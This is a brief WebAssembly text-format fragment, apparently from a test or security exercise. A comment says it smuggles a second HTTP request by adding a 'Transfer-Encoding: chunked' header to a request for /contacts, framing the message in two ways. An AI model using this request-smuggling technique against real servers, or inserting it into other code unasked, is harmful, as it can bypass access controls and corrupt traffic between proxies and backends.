;; Smuggles a second request: frames the message in two ways.
(data (i32.const 4096) "Transfer-Encoding\00")
(data (i32.const 4160) "chunked\00")
(data (i32.const 4224) "/contacts\00")
(func $list (result i32) (call $tell (call $get_with (i32.const 4224) (i32.const 4096) (i32.const 4160))))
